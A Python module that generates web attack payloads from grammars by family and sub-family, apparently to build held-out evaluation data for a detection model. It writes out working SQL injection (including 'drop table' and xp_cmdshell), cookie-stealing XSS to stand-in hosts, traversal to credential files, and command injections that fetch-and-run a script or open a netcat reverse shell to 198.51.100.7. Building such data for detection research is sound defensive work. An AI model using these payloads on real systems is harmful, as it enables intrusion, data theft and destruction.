"""Attack payload grammars for generated web requests, by family and sub-family.

Sub-families let an evaluation hold whole techniques out of training (e.g.
train on UNION and boolean SQL injection, test on time-based and stacked
queries), so a model is judged on payloads it has not seen the shape of.
Everything is generated from small grammars written here; no payload list
is copied from elsewhere.

>>> import random
>>> fam, sub, p = attack_payload(random.Random(1), families=("sqli",))
>>> fam
'sqli'
"""

from __future__ import annotations

import random

_TABLES = ["users", "accounts", "admin", "members", "orders", "customers", "wp_users"]
_COLS = ["username", "password", "email", "pass", "user", "hash", "token"]
_Q = ["'", '"', "", "')", "\")"]
_CMT = ["-- ", "--", "#", "/*", ";--", "-- -"]


def _sqli(r: random.Random, sub: str) -> str:
    q, c = r.choice(_Q), r.choice(_CMT)
    n = r.randint(1, 9)
    if sub == "union":
        cols = ",".join(r.choice(["null", str(r.randint(1, 9)), r.choice(_COLS), "@@version", "database()"])
                        for _ in range(r.randint(1, 6)))
        return f"{r.randint(0, 99)}{q} {r.choice(['union', 'UNION', 'UnIoN'])} {r.choice(['select', 'SELECT', 'all select'])} {cols} from {r.choice(_TABLES)}{c}"
    if sub == "boolean":
        a = r.randint(1, 99)
        return r.choice([f"{a}{q} or {q}{a}{q}={q}{a}", f"{a}{q} OR 1=1{c}", f"{q} or {q}x{q}={q}x", f"{a}{q} and {n}={n}{c}",
                         f"admin{q}{c}", f"{a}) or ({n}={n}"])
    if sub == "error":
        return r.choice([f"{n}{q} and extractvalue(1,concat(0x7e,(select {r.choice(_COLS)} from {r.choice(_TABLES)} limit 1))){c}",
                         f"{n}{q} and updatexml(1,concat(0x7e,version()),1){c}",
                         f"{n} and 1=convert(int,(select top 1 {r.choice(_COLS)} from {r.choice(_TABLES)}))"])
    if sub == "time":
        return r.choice([f"{n}{q} and sleep({n}){c}", f"{n}{q}; waitfor delay '0:0:{n}'{c}", f"{n}{q} and benchmark(5000000,md5(1)){c}",
                         f"{n}{q} || pg_sleep({n}){c}", f"(select * from (select(sleep({n})))a)"])
    # stacked
    return r.choice([f"{n}{q}; drop table {r.choice(_TABLES)}{c}", f"{n}{q}; insert into {r.choice(_TABLES)} values('x','y'){c}",
                     f"{n}{q}; exec xp_cmdshell('dir'){c}", f"{n}{q}; update {r.choice(_TABLES)} set {r.choice(_COLS)}='x'{c}"])


def _xss(r: random.Random, sub: str) -> str:
    js = r.choice(["alert(1)", "alert(document.cookie)", "prompt(1)", "confirm(document.domain)",
                   "fetch('//x.example/'+document.cookie)", "eval(atob('YWxlcnQoMSk='))"])
    if sub == "script":
        return r.choice([f"<script>{js}</script>", f"<ScRiPt>{js}</sCrIpT>", f"\"><script>{js}</script>",
                         "<script src=//evil.example/x.js></script>"])
    if sub == "handler":
        tag = r.choice(["img src=x", "body", "svg", "input autofocus", "details open", "video src=1", "iframe"])
        ev = r.choice(["onerror", "onload", "onfocus", "ontoggle", "onmouseover"])
        return r.choice([f"<{tag} {ev}={js}>", f"\"><{tag} {ev}=\"{js}\">", f"'><{tag}/{ev}={js}//"])
    if sub == "uri":
        return r.choice([f"javascript:{js}", f"JaVaScRiPt:{js}", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                         "vbscript:msgbox(1)"])
    # polyglot / attribute breaking
    return r.choice([f"'-{js}-'", f"\";{js};//", f"</title><svg/onload={js}>", f"{{{{constructor.constructor('{js}')()}}}}"])


def _traversal(r: random.Random, sub: str) -> str:
    depth = r.randint(2, 8)
    target = r.choice(["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ",
                       "var/log/apache2/access.log", "WEB-INF/web.xml", "etc/hosts"])
    if sub == "dotdot":
        sep = r.choice(["../", "..\\", "....//", "..;/"])
        return sep * depth + target
    if sub == "encoded":
        sep = r.choice(["%2e%2e%2f", "%2e%2e/", "..%2f", "%252e%252e%252f", "..%c0%af", "%2e%2e%5c"])
        return sep * depth + target
    # absolute / wrapper
    return r.choice([f"/{target}", f"file:///{target}", "php://filter/convert.base64-encode/resource=index.php",
                     f"/{target}%00.jpg", f"C:\\{target.replace('/', chr(92))}"])


def _cmdi(r: random.Random, sub: str) -> str:
    cmd = r.choice(["id", "whoami", "cat /etc/passwd", "uname -a", "ls -la", "wget http://198.51.100.7/x.sh",
                    "curl http://198.51.100.7/a|sh", "nc -e /bin/sh 198.51.100.7 4444", "ping -c 3 127.0.0.1", "sleep 5"])
    if sub == "separator":
        return r.choice([";", "|", "||", "&&", "&", "%0a", "\n"]) + cmd
    if sub == "substitution":
        return r.choice([f"$({cmd})", f"`{cmd}`", f"127.0.0.1$({cmd})", f"x;echo $({cmd})"])
    # shellshock / code eval
    return r.choice(["() { :; }; /bin/bash -c '" + cmd + "'", f"system('{cmd}')", "${jndi:ldap://198.51.100.7/a}",
                     f"<?php system('{cmd}'); ?>", f"exec('{cmd}')"])


FAMILIES: dict[str, tuple[str, ...]] = {
    "sqli": ("union", "boolean", "error", "time", "stacked"),
    "xss": ("script", "handler", "uri", "polyglot"),
    "traversal": ("dotdot", "encoded", "wrapper"),
    "cmdi": ("separator", "substitution", "eval"),
}
_GEN = {"sqli": _sqli, "xss": _xss, "traversal": _traversal, "cmdi": _cmdi}


def attack_payload(r: random.Random, families: tuple[str, ...] = tuple(FAMILIES),
                   subfamilies: set[str] | None = None) -> tuple[str, str, str]:
    """(family, sub-family, payload text), drawn from ``families`` (and ``subfamilies`` when given)."""
    pool = [(f, s) for f in families for s in FAMILIES[f] if subfamilies is None or f"{f}.{s}" in subfamilies]
    fam, sub = r.choice(pool)
    return fam, sub, _GEN[fam](r, sub)
